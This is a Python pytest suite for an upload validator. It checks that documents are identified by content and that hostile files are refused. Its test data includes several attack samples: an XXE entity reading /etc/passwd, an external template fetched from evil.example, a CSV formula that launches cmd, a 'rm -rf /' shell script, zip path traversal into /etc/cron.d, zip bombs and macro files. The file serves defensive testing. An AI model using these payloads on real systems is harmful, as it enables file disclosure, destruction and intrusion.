"""Documents: known by content, bounded, without macros and outside parts; text with formulas is left as it is."""

from __future__ import annotations

import io
import struct

import pytest

from tenants.uploads import Refused, check_document
from tenants.uploads.documents import MAX_ENTRIES

from . import hostile

DOCTYPE = (
    b'<?xml version="1.0"?><!-- '
    + b"x" * 5000
    + b' --><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'
)
TEMPLATE = (
    b'<Relationships><Relationship Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
    b'attachedTemplate" Target="https://evil.example/x.dotm" TargetMode="External"/></Relationships>'
)
LINK = TEMPLATE.replace(b"attachedTemplate", b"hyperlink")


def check(data: bytes, name: str = "tep") -> str:
    return check_document(io.BytesIO(data), name, len(data)).name


@pytest.mark.parametrize(
    ("data", "name", "kind"),
    [
        (hostile.pdf(), "công văn.doc", "pdf"),
        (hostile.office("docx"), "a.pdf", "docx"),
        (hostile.office("xlsx"), "a", "xlsx"),
        (hostile.office("pptx"), "a", "pptx"),
        (hostile.office("odt"), "a", "odt"),
        (hostile.office("docx", {"word/_rels/document.xml.rels": LINK}), "a.docx", "docx"),
        (hostile.packed({"thư mục/tệp.txt": b"x"}), "a.zip", "zip"),
        (hostile.old_office("WordDocument"), "a.doc", "doc"),
        (hostile.old_office("Workbook"), "a.xls", "xls"),
        (b"{\\rtf1 x}", "a.rtf", "rtf"),
        ("WEBVTT\n\n00:00.000 --> 00:02.000\nXin chào".encode(), "phu-de.txt", "vtt"),
        ("Xin chào".encode(), "a.txt", "txt"),
        ("Xin chào".encode("utf-16"), "a.txt", "txt"),
        ("Xin ch\u00e0o".encode("cp1258"), "a.txt", "txt"),
        (b"=cmd|' /C calc'!A0,+1+1,@SUM(1)\n", "a.csv", "csv"),
        (b"\0\0\0\x18ftypmp42\0\0\0\0mp42isom" + b"\0" * 90, "a.mp4", "mp4"),
    ],
)  # fmt: skip
def test_known_by_content(data: bytes, name: str, kind: str) -> None:
    assert check(data, name) == kind


def _encrypted() -> bytes:
    data = bytearray(hostile.packed({"a.txt": b"x"}))
    for mark, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        place = data.index(mark) + offset
        data[place : place + 2] = struct.pack("<H", 1)
    return bytes(data)


def _overlapping() -> bytes:
    """Two directory entries that share one file's bytes."""
    data = hostile.packed({"a.txt": bytes(range(256)) * 40})
    place, end = data.index(b"PK\x01\x02"), data.index(b"PK\x05\x06")
    entry = data[place:end]
    tail = bytearray(data[end:])
    tail[8:12] = struct.pack("<HH", 60, 60)
    tail[12:16] = struct.pack("<I", len(entry) * 60)
    return data[:place] + entry * 60 + bytes(tail)


@pytest.mark.parametrize(
    ("data", "code"),
    [
        (b"", "empty"),
        (hostile.pdf()[:-8], "broken"),
        (b"\n" + hostile.pdf(), "txt"),
        (hostile.office()[:-30], "broken"),
        (hostile.packed({"bom.txt": b"\0" * 30_000_000}), "bomb"),
        (hostile.packed({f"{n}": b"" for n in range(MAX_ENTRIES + 1)}), "bomb"),
        (_overlapping(), "bomb"),
        (hostile.packed({"../../etc/cron.d/x": b"x"}), "path"),
        (hostile.packed({"..\\..\\x": b"x"}), "path"),
        (hostile.packed({"/etc/x": b"x"}), "path"),
        (hostile.packed({"C:/x": b"x"}), "path"),
        (hostile.packed({"hoá đơn.pdf.exe": b"MZ"}), "program"),
        (_encrypted(), "locked"),
        (hostile.office("docx", {"word/vbaProject.bin": b"x"}), "macros"),
        (hostile.office("odt", {"Basic/Standard/m.xml": b"<x/>"}), "macros"),
        (hostile.office("docx", {"word/settings.xml": DOCTYPE}), "doctype"),
        (hostile.office("xlsx", {"xl/a.xml": DOCTYPE.decode().replace('version="1.0"', 'version="1.0" encoding="utf-16"').encode("utf-16")}), "doctype"),
        (hostile.office("docx", {"word/_rels/settings.xml.rels": TEMPLATE}), "loads_from_outside"),
        (hostile.old_office("WordDocument", "_VBA_PROJECT"), "macros"),
        (hostile.old_office("EncryptedPackage"), "locked"),
        (hostile.old_office("MsiTable"), "unknown_kind"),
        (b"{\\rtf1 {\\object\\objdata 0105}}", "loads_from_outside"),
        (b"MZ\x90" + b"\0" * 99, "program"),
        (b"\x7fELF" + b"\0" * 99, "program"),
        (b"#!/bin/sh\nrm -rf /", "program"),
        (b"  <!DOCTYPE html><script>", "web_page"),
        (b"\xef\xbb\xbf<html>", "web_page"),
        (hostile.DRAWINGS["script"].encode(), "unknown_kind"),
        (b"text with \x00 in it", "unknown_kind"),
    ],
)  # fmt: skip
def test_refused(data: bytes, code: str) -> None:
    if code == "txt":
        # What does not begin as a PDF is none, whatever follows: here it is text, served as a download.
        assert check(data, "a.pdf") == "txt"
        return
    with pytest.raises(Refused) as caught:
        check(data, "tệp lạ.pdf")
    assert caught.value.code == code
    assert "tệp lạ.pdf" in caught.value.messages[0]
